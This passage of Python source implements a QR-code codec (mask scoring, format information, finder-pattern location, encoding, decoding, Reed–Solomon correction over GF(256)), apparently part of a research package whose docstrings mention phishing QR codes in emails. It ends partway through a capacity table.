def _penalty_runs(line: np.ndarray) -> int:
    score = 0
    run_value = bool(line[0])
    run_length = 1
    for value in line[1:]:
        if bool(value) == run_value:
            run_length += 1
        else:
            if run_length >= 5:
                score += 3 + (run_length - 5)
            run_value = bool(value)
            run_length = 1
    if run_length >= 5:
        score += 3 + (run_length - 5)
    return score


_FINDER_PATTERN = np.array([1, 0, 1, 1, 1, 0, 1, 0, 0, 0, 0], dtype=bool)


def _penalty_finder_like(line: np.ndarray) -> int:
    score = 0
    window = len(_FINDER_PATTERN)
    for start in range(len(line) - window + 1):
        chunk = line[start : start + window]
        if np.array_equal(chunk, _FINDER_PATTERN) or np.array_equal(
            chunk, _FINDER_PATTERN[::-1]
        ):
            score += 40
    return score


def penalty_score(matrix: np.ndarray) -> int:
    """The four-rule mask evaluation score of ISO/IEC 18004 section 8.8.2."""
    score = 0
    # N1: runs of the same color.
    for row in matrix:
        score += _penalty_runs(row)
    for col in matrix.T:
        score += _penalty_runs(col)
    # N2: 2x2 blocks of the same color.
    same = (
        (matrix[:-1, :-1] == matrix[:-1, 1:])
        & (matrix[:-1, :-1] == matrix[1:, :-1])
        & (matrix[:-1, :-1] == matrix[1:, 1:])
    )
    score += 3 * int(same.sum())
    # N3: finder-like patterns.
    for row in matrix:
        score += _penalty_finder_like(row)
    for col in matrix.T:
        score += _penalty_finder_like(col)
    # N4: dark-module proportion.
    dark_percent = matrix.mean() * 100.0
    score += 10 * int(abs(dark_percent - 50.0) // 5)
    return score


def place_format_information(
    matrix: np.ndarray, ec_level: ECLevel, mask_id: int
) -> None:
    """Write both copies of the 15-bit format information in place."""
    size = matrix.shape[0]
    bits = bch_format_bits(ec_level, mask_id)
    values = [(bits >> (14 - i)) & 1 == 1 for i in range(15)]  # b14 first

    # Copy 1, around the top-left finder.
    copy1 = (
        [(8, 0), (8, 1), (8, 2), (8, 3), (8, 4), (8, 5), (8, 7), (8, 8)]
        + [(7, 8), (5, 8), (4, 8), (3, 8), (2, 8), (1, 8), (0, 8)]
    )
    # Copy 2, split between the bottom-left and top-right finders.
    copy2 = [(size - 1 - i, 8) for i in range(7)] + [
        (8, size - 8 + i) for i in range(8)
    ]
    for (row, col), value in zip(copy1, values):
        matrix[row, col] = value
    for (row, col), value in zip(copy2, values):
        matrix[row, col] = value


def place_version_information(matrix: np.ndarray, version: int) -> None:
    """Write both copies of the 18-bit version information (version >= 7)."""
    if version < 7:
        return
    size = matrix.shape[0]
    bits = bch_version_bits(version)
    for i in range(18):
        value = (bits >> i) & 1 == 1
        matrix[size - 11 + i % 3, i // 3] = value
        matrix[i // 3, size - 11 + i % 3] = value


def read_format_information(matrix: np.ndarray) -> tuple[ECLevel, int]:
    """Recover (EC level, mask id) via nearest-codeword format decoding."""
    from repro.qr.tables import FORMAT_CODEWORDS

    size = matrix.shape[0]
    copy1 = (
        [(8, 0), (8, 1), (8, 2), (8, 3), (8, 4), (8, 5), (8, 7), (8, 8)]
        + [(7, 8), (5, 8), (4, 8), (3, 8), (2, 8), (1, 8), (0, 8)]
    )
    copy2 = [(size - 1 - i, 8) for i in range(7)] + [
        (8, size - 8 + i) for i in range(8)
    ]
    best: tuple[int, tuple[ECLevel, int]] | None = None
    for coords in (copy1, copy2):
        observed = 0
        for row, col in coords:
            observed = (observed << 1) | int(matrix[row, col])
        for codeword, decoded in FORMAT_CODEWORDS.items():
            distance = bin(observed ^ codeword).count("1")
            if best is None or distance < best[0]:
                best = (distance, decoded)
    assert best is not None
    distance, decoded = best
    if distance > 3:  # BCH(15,5) corrects at most 3 bit errors
        raise ValueError(f"unreadable format information (distance {distance})")
    return decoded
