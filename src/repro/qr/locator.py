"""Locate and sample a QR symbol inside a raster image.

The locator implements the classic finder-pattern search: it scans for
the 1:1:3:1:1 dark/light run signature horizontally, confirms it
vertically, clusters the candidate centres, identifies the three finder
patterns geometrically, and samples the module grid.  Symbols are
assumed axis-aligned (as produced by the mail substrate's renderer) but
may sit anywhere in the image at any scale.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.imaging.image import Image
from repro.qr.tables import matrix_size


class QRLocateError(ValueError):
    """No QR symbol could be located in the image."""


@dataclass(frozen=True)
class FinderCandidate:
    """A candidate finder-pattern centre, in pixel coordinates."""

    x: float
    y: float
    module_size: float


def _binarize(image: Image) -> np.ndarray:
    gray = image.to_grayscale()
    low, high = float(gray.min()), float(gray.max())
    if high - low < 1e-9:
        return np.zeros(gray.shape, dtype=bool)
    return gray < (low + high) / 2.0


def _runs(row: np.ndarray) -> list[tuple[int, int, bool]]:
    """Consecutive runs as (start, length, value)."""
    runs: list[tuple[int, int, bool]] = []
    start = 0
    current = bool(row[0])
    for index in range(1, len(row)):
        value = bool(row[index])
        if value != current:
            runs.append((start, index - start, current))
            start = index
            current = value
    runs.append((start, len(row) - start, current))
    return runs


def _ratio_match(lengths: list[int]) -> float | None:
    """If five runs approximate 1:1:3:1:1, return the unit module size."""
    total = sum(lengths)
    if total < 7:
        return None
    unit = total / 7.0
    expected = (1, 1, 3, 1, 1)
    for length, ratio in zip(lengths, expected):
        if abs(length - ratio * unit) > max(unit * 0.55, 1.0):
            return None
    return unit


def _vertical_center(mask: np.ndarray, x: int, y: int, unit: float) -> float | None:
    """Confirm the 1:1:3:1:1 signature vertically through (x, y).

    Returns the sub-pixel centre of the middle (3-module) run, or None.
    Refining every row candidate to this common centre makes all rows of
    a real finder collapse onto one point, so clustering cannot be
    skewed by adjacent data rows that merely mimic the horizontal run.
    """
    height = mask.shape[0]
    half = int(round(unit * 4.5))
    y0, y1 = max(0, y - half), min(height, y + half + 1)
    column = mask[y0:y1, x]
    if not column.any():
        return None
    runs = _runs(column)
    center_offset = y - y0
    for index in range(len(runs) - 4):
        window = runs[index : index + 5]
        if not (window[0][2] and not window[1][2] and window[2][2] and not window[3][2] and window[4][2]):
            continue
        unit_v = _ratio_match([run[1] for run in window])
        if unit_v is None or not (0.5 * unit <= unit_v <= 2.0 * unit):
            continue
        middle = window[2]
        if middle[0] <= center_offset < middle[0] + middle[1]:
            return y0 + middle[0] + (middle[1] - 1) / 2.0
    return None


def find_finder_candidates(mask: np.ndarray) -> list[FinderCandidate]:
    """All pixel positions whose row+column signature matches a finder."""
    candidates: list[FinderCandidate] = []
    for y in range(mask.shape[0]):
        runs = _runs(mask[y])
        for index in range(len(runs) - 4):
            window = runs[index : index + 5]
            if not (window[0][2] and not window[1][2] and window[2][2] and not window[3][2] and window[4][2]):
                continue
            unit = _ratio_match([run[1] for run in window])
            if unit is None:
                continue
            # Sub-pixel centre of the 3-module core run: pixels
            # [start, start + length - 1] have centre start + (length-1)/2.
            x_center_precise = window[2][0] + (window[2][1] - 1) / 2.0
            x_center = int(round(x_center_precise))
            y_center = _vertical_center(mask, x_center, y, unit)
            if y_center is not None:
                candidates.append(FinderCandidate(x_center_precise, y_center, unit))
    return candidates


def _cluster(candidates: list[FinderCandidate]) -> list[FinderCandidate]:
    """Merge candidates belonging to one finder pattern.

    Every candidate has already been refined to the sub-pixel centre of
    its finder core (horizontally and vertically), so all rows of a real
    finder land on nearly the same point: a one-module radius suffices,
    and clusters need at least two supporting rows.
    """
    clusters: list[list[FinderCandidate]] = []
    for candidate in candidates:
        best_cluster = None
        for cluster in clusters:
            centroid_x = float(np.mean([c.x for c in cluster]))
            centroid_y = float(np.mean([c.y for c in cluster]))
            unit = float(np.median([c.module_size for c in cluster]))
            limit = max(unit, candidate.module_size) * 1.0
            if abs(candidate.x - centroid_x) <= limit and abs(candidate.y - centroid_y) <= limit:
                best_cluster = cluster
                break
        if best_cluster is not None:
            best_cluster.append(candidate)
        else:
            clusters.append([candidate])
    merged = []
    for cluster in clusters:
        if len(cluster) < 2:
            continue
        xs = float(np.mean([c.x for c in cluster]))
        ys = float(np.mean([c.y for c in cluster]))
        unit = float(np.median([c.module_size for c in cluster]))
        merged.append(FinderCandidate(xs, ys, unit))
    return merged


def _identify_corners(
    centers: list[FinderCandidate],
) -> tuple[FinderCandidate, FinderCandidate, FinderCandidate]:
    """Return (top_left, top_right, bottom_left) assuming axis alignment."""
    best = None
    for i, corner in enumerate(centers):
        others = [c for j, c in enumerate(centers) if j != i]
        for right in others:
            for bottom in others:
                if right is bottom:
                    continue
                dx_r, dy_r = right.x - corner.x, right.y - corner.y
                dx_b, dy_b = bottom.x - corner.x, bottom.y - corner.y
                if dx_r <= 0 or dy_b <= 0:
                    continue
                # Axis-aligned: right lies along +x, bottom along +y.
                if abs(dy_r) > abs(dx_r) * 0.2 or abs(dx_b) > abs(dy_b) * 0.2:
                    continue
                # Data regions can mimic finder runs; prefer the triple
                # that is both square (equal spans) and best aligned to
                # the axes, which spurious candidates are not.
                score = abs(abs(dx_r) - abs(dy_b)) + abs(dy_r) + abs(dx_b)
                if best is None or score < best[0]:
                    best = (score, corner, right, bottom)
    if best is None:
        raise QRLocateError("could not identify three finder patterns")
    return best[1], best[2], best[3]


def locate_qr_matrix(image: Image) -> np.ndarray:
    """Find one QR symbol in ``image`` and return its sampled module matrix."""
    mask = _binarize(image)
    if not mask.any():
        raise QRLocateError("image contains no dark pixels")
    candidates = find_finder_candidates(mask)
    centers = _cluster(candidates)
    if len(centers) < 3:
        raise QRLocateError(f"found {len(centers)} finder patterns, need 3")
    top_left, top_right, bottom_left = _identify_corners(centers)

    module = float(
        np.median([top_left.module_size, top_right.module_size, bottom_left.module_size])
    )
    span_x = top_right.x - top_left.x
    span_y = bottom_left.y - top_left.y
    size = int(round(((span_x + span_y) / 2.0) / module)) + 7
    # Snap to the nearest valid symbol size (17 + 4 * version).
    version = max(1, round((size - 17) / 4))
    size = matrix_size(version)
    # Per-axis module sizes: sub-pixel centre errors otherwise accumulate
    # into half-module drift at the far edge of larger symbols.
    module_x = span_x / (size - 7)
    module_y = span_y / (size - 7)

    origin_x = top_left.x - 3.0 * module_x
    origin_y = top_left.y - 3.0 * module_y

    matrix = np.zeros((size, size), dtype=bool)
    height, width = mask.shape
    for row in range(size):
        for col in range(size):
            cx = origin_x + col * module_x
            cy = origin_y + row * module_y
            x0 = int(round(cx - module_x * 0.25))
            x1 = max(int(round(cx + module_x * 0.25)), x0 + 1)
            y0 = int(round(cy - module_y * 0.25))
            y1 = max(int(round(cy + module_y * 0.25)), y0 + 1)
            x0, x1 = max(0, x0), min(width, x1)
            y0, y1 = max(0, y0), min(height, y1)
            if x0 >= x1 or y0 >= y1:
                continue
            matrix[row, col] = mask[y0:y1, x0:x1].mean() >= 0.5
    return matrix
