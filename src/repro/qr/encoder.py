"""QR encoding: payload -> module matrix -> raster image.

Supports numeric, alphanumeric, and byte modes for versions 1-10 at all
four error-correction levels, with automatic version selection and
penalty-based mask choice.
"""

from __future__ import annotations

import numpy as np

from repro.imaging.image import Image
from repro.qr.bits import BitBuffer
from repro.qr.gf256 import rs_encode
from repro.qr.matrix import (
    apply_mask,
    build_function_patterns,
    data_module_coordinates,
    penalty_score,
    place_format_information,
    place_version_information,
)
from repro.qr.tables import (
    ALPHANUMERIC_CHARSET,
    BLOCK_TABLE,
    ECLevel,
    MAX_VERSION,
)


class QRCapacityError(ValueError):
    """The payload does not fit any supported version at the EC level."""


def select_mode(payload: str) -> str:
    """Pick the densest mode able to represent ``payload``."""
    if payload and all(char.isdigit() for char in payload):
        return "numeric"
    if payload and all(char in ALPHANUMERIC_CHARSET for char in payload):
        return "alphanumeric"
    return "byte"


_MODE_INDICATOR = {"numeric": 0b0001, "alphanumeric": 0b0010, "byte": 0b0100}


def _count_bits(mode: str, version: int) -> int:
    """Character-count field width for a mode and version (versions 1-26)."""
    if version <= 9:
        return {"numeric": 10, "alphanumeric": 9, "byte": 8}[mode]
    return {"numeric": 12, "alphanumeric": 11, "byte": 16}[mode]


def _encode_segment(payload: str, mode: str, version: int) -> BitBuffer:
    buffer = BitBuffer()
    buffer.append_bits(_MODE_INDICATOR[mode], 4)
    if mode == "byte":
        data = payload.encode("utf-8")
        buffer.append_bits(len(data), _count_bits(mode, version))
        for byte in data:
            buffer.append_bits(byte, 8)
    elif mode == "alphanumeric":
        buffer.append_bits(len(payload), _count_bits(mode, version))
        for start in range(0, len(payload) - 1, 2):
            pair = payload[start : start + 2]
            value = ALPHANUMERIC_CHARSET.index(pair[0]) * 45 + ALPHANUMERIC_CHARSET.index(pair[1])
            buffer.append_bits(value, 11)
        if len(payload) % 2:
            buffer.append_bits(ALPHANUMERIC_CHARSET.index(payload[-1]), 6)
    else:  # numeric
        buffer.append_bits(len(payload), _count_bits(mode, version))
        for start in range(0, len(payload), 3):
            group = payload[start : start + 3]
            buffer.append_bits(int(group), {3: 10, 2: 7, 1: 4}[len(group)])
    return buffer


def _segment_bit_length(payload: str, mode: str, version: int) -> int:
    """Exact bit length of the encoded segment without building it."""
    header = 4 + _count_bits(mode, version)
    if mode == "byte":
        return header + 8 * len(payload.encode("utf-8"))
    if mode == "alphanumeric":
        return header + 11 * (len(payload) // 2) + 6 * (len(payload) % 2)
    return header + 10 * (len(payload) // 3) + {0: 0, 1: 4, 2: 7}[len(payload) % 3]


def select_version(payload: str, ec_level: ECLevel) -> int:
    """Smallest supported version whose data capacity fits the payload."""
    mode = select_mode(payload)
    for version in range(1, MAX_VERSION + 1):
        capacity_bits = BLOCK_TABLE[(version, ec_level)].total_data_codewords * 8
        if _segment_bit_length(payload, mode, version) <= capacity_bits:
            return version
    raise QRCapacityError(
        f"payload of {len(payload)} characters does not fit version <= {MAX_VERSION} at EC {ec_level.name}"
    )


def build_codewords(payload: str, version: int, ec_level: ECLevel) -> list[int]:
    """Data + parity codewords, interleaved in transmission order."""
    structure = BLOCK_TABLE[(version, ec_level)]
    capacity_bits = structure.total_data_codewords * 8

    mode = select_mode(payload)
    buffer = _encode_segment(payload, mode, version)
    if len(buffer) > capacity_bits:
        raise QRCapacityError("payload exceeds version capacity")

    # Terminator (up to 4 zero bits), pad to a byte boundary, then the
    # alternating pad codewords 0xEC / 0x11.
    buffer.append_bits(0, min(4, capacity_bits - len(buffer)))
    if len(buffer) % 8:
        buffer.append_bits(0, 8 - len(buffer) % 8)
    data = buffer.to_bytes()
    pad_bytes = (0xEC, 0x11)
    index = 0
    while len(data) < structure.total_data_codewords:
        data.append(pad_bytes[index % 2])
        index += 1

    # Split into blocks and compute parity per block.
    blocks: list[list[int]] = []
    parities: list[list[int]] = []
    offset = 0
    for size in structure.block_sizes:
        block = data[offset : offset + size]
        offset += size
        blocks.append(block)
        parities.append(rs_encode(block, structure.ec_per_block))

    # Interleave data codewords, then parity codewords.
    interleaved: list[int] = []
    for i in range(max(len(block) for block in blocks)):
        for block in blocks:
            if i < len(block):
                interleaved.append(block[i])
    for i in range(structure.ec_per_block):
        for parity in parities:
            interleaved.append(parity[i])
    return interleaved


def encode_qr(payload: str, ec_level: ECLevel = ECLevel.M, version: int | None = None) -> np.ndarray:
    """Encode ``payload`` into a module matrix (True = dark module)."""
    if version is None:
        version = select_version(payload, ec_level)
    codewords = build_codewords(payload, version, ec_level)

    matrix, reserved = build_function_patterns(version)
    coordinates = data_module_coordinates(version)
    bit_stream: list[bool] = []
    for codeword in codewords:
        for shift in range(7, -1, -1):
            bit_stream.append(bool((codeword >> shift) & 1))
    # Remainder bits (if any) stay light.
    bit_stream.extend([False] * (len(coordinates) - len(bit_stream)))
    for (row, col), bit in zip(coordinates, bit_stream):
        matrix[row, col] = bit

    best_matrix = None
    best_mask = 0
    best_penalty = None
    for mask_id in range(8):
        candidate = apply_mask(matrix, reserved, mask_id)
        place_format_information(candidate, ec_level, mask_id)
        place_version_information(candidate, version)
        score = penalty_score(candidate)
        if best_penalty is None or score < best_penalty:
            best_matrix, best_mask, best_penalty = candidate, mask_id, score
    assert best_matrix is not None
    return best_matrix


def qr_image(
    payload: str,
    ec_level: ECLevel = ECLevel.M,
    scale: int = 4,
    border: int = 4,
) -> Image:
    """Encode ``payload`` and rasterise it with a quiet zone.

    ``border`` is the quiet-zone width in modules (the spec mandates 4).
    """
    matrix = encode_qr(payload, ec_level)
    return Image.from_bool_matrix(matrix, scale=scale, border=border)
