"""QR decoding: module matrix -> payload string.

The decoder reads and BCH-corrects the format information, removes the
data mask, walks the zigzag placement, de-interleaves the Reed–Solomon
blocks, corrects byte errors, and parses the segment stream (numeric,
alphanumeric, and byte modes).
"""

from __future__ import annotations

import numpy as np

from repro.qr.bits import BitBuffer
from repro.qr.gf256 import ReedSolomonError, rs_decode
from repro.qr.matrix import (
    apply_mask,
    build_function_patterns,
    data_module_coordinates,
    read_format_information,
)
from repro.qr.tables import (
    ALPHANUMERIC_CHARSET,
    BLOCK_TABLE,
    version_for_size,
)


class QRDecodeError(ValueError):
    """The matrix does not contain a decodable QR symbol."""


def _deinterleave(codewords: list[int], version: int, ec_level) -> list[int]:
    """Undo codeword interleaving; returns data codewords in logical order."""
    structure = BLOCK_TABLE[(version, ec_level)]
    sizes = structure.block_sizes
    n_blocks = len(sizes)

    data_blocks: list[list[int]] = [[] for _ in range(n_blocks)]
    cursor = 0
    for i in range(max(sizes)):
        for block_index in range(n_blocks):
            if i < sizes[block_index]:
                data_blocks[block_index].append(codewords[cursor])
                cursor += 1
    parity_blocks: list[list[int]] = [[] for _ in range(n_blocks)]
    for _ in range(structure.ec_per_block):
        for block_index in range(n_blocks):
            parity_blocks[block_index].append(codewords[cursor])
            cursor += 1

    data: list[int] = []
    for block, parity in zip(data_blocks, parity_blocks):
        try:
            data.extend(rs_decode(block + parity, structure.ec_per_block))
        except ReedSolomonError as exc:
            raise QRDecodeError(f"uncorrectable block: {exc}") from exc
    return data


def _parse_segments(data: list[int], version: int) -> str:
    """Parse the decoded bit stream into its textual payload."""
    buffer = BitBuffer()
    for byte in data:
        buffer.append_bits(byte, 8)

    parts: list[str] = []
    while buffer.remaining >= 4:
        mode = buffer.read_bits(4)
        if mode == 0b0000:  # terminator
            break
        if mode == 0b0100:  # byte
            count_bits = 8 if version <= 9 else 16
            count = buffer.read_bits(count_bits)
            raw = bytes(buffer.read_bits(8) for _ in range(count))
            parts.append(raw.decode("utf-8", errors="replace"))
        elif mode == 0b0010:  # alphanumeric
            count_bits = 9 if version <= 9 else 11
            count = buffer.read_bits(count_bits)
            chars: list[str] = []
            for _ in range(count // 2):
                value = buffer.read_bits(11)
                chars.append(ALPHANUMERIC_CHARSET[value // 45])
                chars.append(ALPHANUMERIC_CHARSET[value % 45])
            if count % 2:
                chars.append(ALPHANUMERIC_CHARSET[buffer.read_bits(6)])
            parts.append("".join(chars))
        elif mode == 0b0001:  # numeric
            count_bits = 10 if version <= 9 else 12
            count = buffer.read_bits(count_bits)
            digits: list[str] = []
            remaining = count
            while remaining >= 3:
                digits.append(f"{buffer.read_bits(10):03d}")
                remaining -= 3
            if remaining == 2:
                digits.append(f"{buffer.read_bits(7):02d}")
            elif remaining == 1:
                digits.append(f"{buffer.read_bits(4):d}")
            parts.append("".join(digits))
        else:
            raise QRDecodeError(f"unsupported mode indicator {mode:04b}")
    return "".join(parts)


def decode_qr_matrix(matrix: np.ndarray) -> str:
    """Decode a boolean module matrix back into its payload string."""
    matrix = np.asarray(matrix, dtype=bool)
    if matrix.ndim != 2 or matrix.shape[0] != matrix.shape[1]:
        raise QRDecodeError("matrix must be square")
    try:
        version = version_for_size(matrix.shape[0])
    except ValueError as exc:
        raise QRDecodeError(str(exc)) from exc
    if (version, next(iter(BLOCK_TABLE))[1]) not in BLOCK_TABLE and version > 10:
        raise QRDecodeError(f"unsupported version {version}")

    try:
        ec_level, mask_id = read_format_information(matrix)
    except ValueError as exc:
        raise QRDecodeError(str(exc)) from exc

    _, reserved = build_function_patterns(version)
    unmasked = apply_mask(matrix, reserved, mask_id)

    coordinates = data_module_coordinates(version)
    bits = [bool(unmasked[row, col]) for row, col in coordinates]
    total_codewords = len(bits) // 8
    codewords = []
    for index in range(total_codewords):
        value = 0
        for bit in bits[index * 8 : index * 8 + 8]:
            value = (value << 1) | int(bit)
        codewords.append(value)

    data = _deinterleave(codewords, version, ec_level)
    return _parse_segments(data, version)
