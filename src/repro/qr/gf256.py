"""GF(2^8) arithmetic and Reed–Solomon codes for QR symbols.

QR error correction uses Reed–Solomon over GF(2^8) with the primitive
polynomial x^8 + x^4 + x^3 + x^2 + 1 (0x11D) and generator element 2.
This module provides polynomial arithmetic, systematic RS encoding, and
full RS decoding (syndrome computation, Berlekamp–Massey, Chien search,
Forney algorithm), so the decoder genuinely corrects corrupted modules.
"""

from __future__ import annotations

PRIMITIVE_POLY = 0x11D
FIELD_SIZE = 256

# Precomputed exponential / logarithm tables for the generator alpha = 2.
EXP_TABLE = [0] * (FIELD_SIZE * 2)
LOG_TABLE = [0] * FIELD_SIZE

_value = 1
for _power in range(FIELD_SIZE - 1):
    EXP_TABLE[_power] = _value
    LOG_TABLE[_value] = _power
    _value <<= 1
    if _value & 0x100:
        _value ^= PRIMITIVE_POLY
for _power in range(FIELD_SIZE - 1, FIELD_SIZE * 2):
    EXP_TABLE[_power] = EXP_TABLE[_power - (FIELD_SIZE - 1)]
del _value, _power


def gf_mul(a: int, b: int) -> int:
    """Multiply two field elements."""
    if a == 0 or b == 0:
        return 0
    return EXP_TABLE[LOG_TABLE[a] + LOG_TABLE[b]]


def gf_div(a: int, b: int) -> int:
    """Divide ``a`` by ``b`` (``b`` must be non-zero)."""
    if b == 0:
        raise ZeroDivisionError("division by zero in GF(256)")
    if a == 0:
        return 0
    return EXP_TABLE[(LOG_TABLE[a] - LOG_TABLE[b]) % (FIELD_SIZE - 1)]


def gf_pow(base: int, exponent: int) -> int:
    """Raise ``base`` to ``exponent``."""
    if base == 0:
        if exponent == 0:
            return 1
        return 0
    return EXP_TABLE[(LOG_TABLE[base] * exponent) % (FIELD_SIZE - 1)]


def gf_inverse(a: int) -> int:
    """Multiplicative inverse of a non-zero element."""
    if a == 0:
        raise ZeroDivisionError("zero has no inverse in GF(256)")
    return EXP_TABLE[(FIELD_SIZE - 1) - LOG_TABLE[a]]


# ----------------------------------------------------------------------
# Polynomial helpers.  Polynomials are lists of coefficients with the
# highest-degree term first, matching the QR specification's convention.
# ----------------------------------------------------------------------
def poly_mul(p: list[int], q: list[int]) -> list[int]:
    """Multiply two polynomials over GF(256)."""
    result = [0] * (len(p) + len(q) - 1)
    for i, coeff_p in enumerate(p):
        if coeff_p == 0:
            continue
        for j, coeff_q in enumerate(q):
            if coeff_q:
                result[i + j] ^= gf_mul(coeff_p, coeff_q)
    return result


def poly_eval(poly: list[int], x: int) -> int:
    """Evaluate a polynomial at ``x`` using Horner's scheme."""
    value = 0
    for coeff in poly:
        value = gf_mul(value, x) ^ coeff
    return value


def rs_generator_poly(n_ec: int) -> list[int]:
    """Return the RS generator polynomial with ``n_ec`` roots alpha^0..alpha^(n-1)."""
    gen = [1]
    for power in range(n_ec):
        gen = poly_mul(gen, [1, gf_pow(2, power)])
    return gen


def rs_encode(data: list[int], n_ec: int) -> list[int]:
    """Compute the ``n_ec`` Reed–Solomon parity codewords for ``data``."""
    if n_ec <= 0:
        raise ValueError("n_ec must be positive")
    gen = rs_generator_poly(n_ec)
    remainder = list(data) + [0] * n_ec
    for i in range(len(data)):
        factor = remainder[i]
        if factor == 0:
            continue
        for j, coeff in enumerate(gen):
            remainder[i + j] ^= gf_mul(coeff, factor)
    return remainder[len(data):]


class ReedSolomonError(ValueError):
    """Raised when a codeword block has more errors than are correctable."""


def _syndromes(codeword: list[int], n_ec: int) -> list[int]:
    """Syndromes S_j = C(alpha^j) for j in 0..n_ec-1 (QR uses b = 0)."""
    return [poly_eval(codeword, gf_pow(2, power)) for power in range(n_ec)]


def _poly_add_low(p: list[int], q: list[int]) -> list[int]:
    """Add two lowest-degree-first polynomials."""
    result = [0] * max(len(p), len(q))
    for i, coeff in enumerate(p):
        result[i] ^= coeff
    for i, coeff in enumerate(q):
        result[i] ^= coeff
    return result


def _eval_low(poly: list[int], x: int) -> int:
    """Evaluate a lowest-degree-first polynomial at ``x``."""
    value = 0
    for coeff in reversed(poly):
        value = gf_mul(value, x) ^ coeff
    return value


def _berlekamp_massey(syndromes: list[int]) -> list[int]:
    """Massey's algorithm: the error locator Lambda(x), lowest-degree first."""
    current = [1]
    backup = [1]
    errors = 0  # L: current number of assumed errors
    shift = 1  # m: steps since backup was taken
    backup_delta = 1  # b: discrepancy when backup was taken
    for n, syndrome in enumerate(syndromes):
        delta = syndrome
        for i in range(1, errors + 1):
            if i < len(current):
                delta ^= gf_mul(current[i], syndromes[n - i])
        if delta == 0:
            shift += 1
            continue
        correction = [0] * shift + [
            gf_mul(gf_div(delta, backup_delta), coeff) for coeff in backup
        ]
        if 2 * errors <= n:
            backup = list(current)
            backup_delta = delta
            errors = n + 1 - errors
            shift = 1
            current = _poly_add_low(current, correction)
        else:
            current = _poly_add_low(current, correction)
            shift += 1
    locator = current[: errors + 1]
    while len(locator) > 1 and locator[-1] == 0:
        locator.pop()
    return locator


def _chien_search(locator: list[int], length: int) -> list[int]:
    """Positions (left-indexed) whose symbols are in error."""
    positions = []
    for index in range(length):
        power = length - 1 - index
        x_inverse = gf_pow(2, (FIELD_SIZE - 1 - power) % (FIELD_SIZE - 1))
        if _eval_low(locator, x_inverse) == 0:
            positions.append(index)
    if len(positions) != len(locator) - 1:
        raise ReedSolomonError(
            f"located {len(positions)} errors but the locator degree is {len(locator) - 1}"
        )
    return positions


def rs_decode(codeword: list[int], n_ec: int) -> list[int]:
    """Correct up to ``n_ec // 2`` byte errors and return the data part.

    ``codeword`` is data followed by parity.  Raises
    :class:`ReedSolomonError` when the block is uncorrectable.
    """
    if len(codeword) <= n_ec:
        raise ValueError("codeword shorter than its parity")
    syndromes = _syndromes(codeword, n_ec)
    if not any(syndromes):
        return codeword[:-n_ec]
    locator = _berlekamp_massey(syndromes)
    n_errors = len(locator) - 1
    if n_errors == 0 or n_errors * 2 > n_ec:
        raise ReedSolomonError(f"{n_errors} errors exceed correction capacity {n_ec // 2}")
    positions = _chien_search(locator, len(codeword))

    # Forney algorithm: Omega(x) = S(x) * Lambda(x) mod x^n_ec, all
    # polynomials lowest-degree first.
    omega = [0] * n_ec
    for i, s_coeff in enumerate(syndromes):
        if s_coeff == 0:
            continue
        for j, l_coeff in enumerate(locator):
            if i + j < n_ec and l_coeff:
                omega[i + j] ^= gf_mul(s_coeff, l_coeff)
    # Formal derivative: in characteristic 2 only odd-power terms survive.
    derivative = [locator[i] if i % 2 == 1 else 0 for i in range(1, len(locator))]
    corrected = list(codeword)
    for position in positions:
        x = gf_pow(2, len(codeword) - 1 - position)
        x_inverse = gf_inverse(x)
        omega_value = _eval_low(omega, x_inverse)
        derivative_value = _eval_low(derivative, x_inverse)
        if derivative_value == 0:
            raise ReedSolomonError("Forney derivative evaluated to zero")
        # With b = 0 the magnitude carries a factor X_k^(1-b) = X_k.
        magnitude = gf_mul(x, gf_div(omega_value, derivative_value))
        corrected[position] ^= magnitude
    if any(_syndromes(corrected, n_ec)):
        raise ReedSolomonError("correction failed to zero the syndromes")
    return corrected[:-n_ec]
