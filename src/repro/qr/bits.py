"""A simple append-only / cursor-read bit buffer used by the QR codec."""

from __future__ import annotations


class BitBuffer:
    """Stores bits most-significant first, mirroring the QR bit stream."""

    def __init__(self, bits: list[int] | None = None):
        self._bits: list[int] = list(bits) if bits else []
        self._cursor = 0

    def __len__(self) -> int:
        return len(self._bits)

    def append_bits(self, value: int, count: int) -> None:
        """Append the ``count`` low bits of ``value``, MSB first."""
        if count < 0:
            raise ValueError("count must be non-negative")
        if value < 0 or value >> count:
            raise ValueError(f"value {value} does not fit in {count} bits")
        for shift in range(count - 1, -1, -1):
            self._bits.append((value >> shift) & 1)

    def append_bit(self, bit: int) -> None:
        if bit not in (0, 1):
            raise ValueError("bit must be 0 or 1")
        self._bits.append(bit)

    def to_bytes(self) -> list[int]:
        """Pack the bits into bytes (the last byte zero-padded)."""
        data = []
        for start in range(0, len(self._bits), 8):
            chunk = self._bits[start : start + 8]
            chunk = chunk + [0] * (8 - len(chunk))
            value = 0
            for bit in chunk:
                value = (value << 1) | bit
            data.append(value)
        return data

    # ------------------------------------------------------------------
    # Cursor-based reading (used by the decoder)
    # ------------------------------------------------------------------
    @property
    def remaining(self) -> int:
        return len(self._bits) - self._cursor

    def read_bits(self, count: int) -> int:
        """Read ``count`` bits from the cursor, MSB first."""
        if count > self.remaining:
            raise ValueError(f"cannot read {count} bits, only {self.remaining} left")
        value = 0
        for _ in range(count):
            value = (value << 1) | self._bits[self._cursor]
            self._cursor += 1
        return value

    def rewind(self) -> None:
        self._cursor = 0
