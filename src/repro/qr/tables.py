"""QR symbol constants: capacities, block structures, alignment patterns.

Values follow ISO/IEC 18004 for versions 1-10, which comfortably covers
the payload sizes phishing QR codes use (URLs up to ~270 characters at
EC level L).
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum


class ECLevel(Enum):
    """Error-correction level, with the 2-bit format-information indicator."""

    L = 0b01
    M = 0b00
    Q = 0b11
    H = 0b10


@dataclass(frozen=True)
class BlockStructure:
    """Reed–Solomon block layout for one (version, EC level) pair."""

    ec_per_block: int
    #: List of (block_count, data_codewords_per_block) groups.
    groups: tuple[tuple[int, int], ...]

    @property
    def total_data_codewords(self) -> int:
        return sum(count * size for count, size in self.groups)

    @property
    def block_sizes(self) -> list[int]:
        sizes: list[int] = []
        for count, size in self.groups:
            sizes.extend([size] * count)
        return sizes


MAX_VERSION = 10

#: (version, ECLevel) -> BlockStructure, per ISO/IEC 18004 table 9.
BLOCK_TABLE: dict[tuple[int, ECLevel], BlockStructure] = {
    (1, ECLevel.L): BlockStructure(7, ((1, 19),)),
    (1, ECLevel.M): BlockStructure(10, ((1, 16),)),
    (1, ECLevel.Q): BlockStructure(13, ((1, 13),)),
